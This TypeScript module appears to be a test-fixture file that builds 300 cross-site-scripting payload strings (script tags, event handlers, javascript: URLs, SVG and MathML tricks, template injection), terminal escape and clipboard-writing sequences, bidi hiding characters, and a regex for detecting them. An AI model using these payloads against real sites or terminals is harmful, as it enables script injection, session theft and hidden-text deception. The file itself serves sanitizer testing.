/** Runs if a browser treats a text as more than text. */
const RUN = 'window.__xss=1'

const BASES = [
  `<script>${RUN}</script>`,
  `<script src="http://xss.invalid/x.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}" id=xss-el>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="http://xss.invalid/">`,
  `<link rel=stylesheet href="http://xss.invalid/x.css">`,
  `<link rel=prefetch href="http://xss.invalid/x">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=http://xss.invalid/">`,
  `<style>@import "http://xss.invalid/x.css";*{background:url(http://xss.invalid/y)}</style>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${RUN}>x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div onmouseover=${RUN} style="position:fixed;inset:0" id=xss-el>x</div>`,
  `<a href="javascript:${RUN}" id=xss-el>x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss id=xss-el tabindex=1 onfocus=${RUN} autofocus>x</xss>`,
  `javascript:${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `[x](javascript:${RUN})![x](http://xss.invalid/x.png)`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
]

/** What can surround a text, closed. */
const ENDS = ['', '">', "'>", '</script>', '</textarea></title></style>', '--><!--<p "']

/** 300 texts that become markup, run or load something wherever one of them is not taken for text. */
export const PAYLOADS: readonly string[] = ENDS.flatMap((end) => BASES.map((base) => `${end}${base}`))

const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i)
const character = (code: number) => String.fromCodePoint(code)

/** More than 200 sequences that move a cursor, ring, write a clipboard, hide or reorder text on a terminal or a page. */
export const CONTROLS: readonly string[] = [
  ...range(0x00, 0x1f)
    .filter((code) => code !== 0x09 && code !== 0x0a)
    .map(character),
  ...range(0x7f, 0x9f).map(character),
  ...range(0x40, 0x7e).map((final) => `\u001b[1;2${character(final)}`),
  ...range(0x40, 0x7e).map((final) => `\u009b31${character(final)}`),
  '\u001b]8;;http://xss.invalid\u0007x\u001b]8;;\u0007',
  '\u001b]52;c;eHNz\u0007',
  '\u001b]0;title\u0007',
  '\u001bP+q544e\u001b\\',
  'safe\rover',
  ...[0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029].map(character),
  ...range(0x202a, 0x202e).map(character),
  ...range(0x2060, 0x2069).map(character),
  ...[0xfeff, 0xfff9, 0xfffb, 0xe0041, 0xe007f].map(character),
]

/** A control character other than newline and tab, or a mark that reorders text. */
export const HIDING = /(?![\n\t])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u
